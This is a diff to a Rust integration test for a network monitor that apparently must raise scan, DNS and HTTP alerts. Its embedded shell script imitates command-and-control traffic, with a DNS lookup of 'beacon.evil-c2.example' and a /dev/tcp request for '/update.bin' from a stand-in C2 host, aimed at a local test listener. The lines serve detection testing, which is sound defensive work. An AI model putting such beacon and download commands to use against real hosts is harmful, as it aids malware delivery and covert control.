@@ -73,8 +73,15 @@ fn live_capture_between_namespaces_raises_scan_dns_and_http_alerts() {
     let web = TcpListener::bind(format!("{host_ip}:18080")).unwrap();
     std::thread::spawn(move || {
         for mut c in web.incoming().flatten() {
+            // read the whole request head, so that closing does not reset
+            let mut head = Vec::new();
             let mut buf = [0u8; 1024];
-            let _ = c.read(&mut buf);
+            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                match c.read(&mut buf) {
+                    Ok(0) | Err(_) => break,
+                    Ok(n) => head.extend_from_slice(&buf[..n]),
+                }
+            }
             let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
         }
     });
@@ -95,7 +102,7 @@ fn live_capture_between_namespaces_raises_scan_dns_and_http_alerts() {
 printf '{dns}' > /dev/udp/{host_ip}/53
 exec 3<>/dev/tcp/{host_ip}/18080
 printf 'GET /update.bin HTTP/1.1\r\nHost: update.evil-c2.example\r\nUser-Agent: canhgac-test\r\n\r\n' >&3
-timeout 5 cat <&3 >/dev/null
+timeout 5 cat <&3 >/dev/null || true
 "#,
         dns = dns_query_printf("beacon.evil-c2.example"),
     );
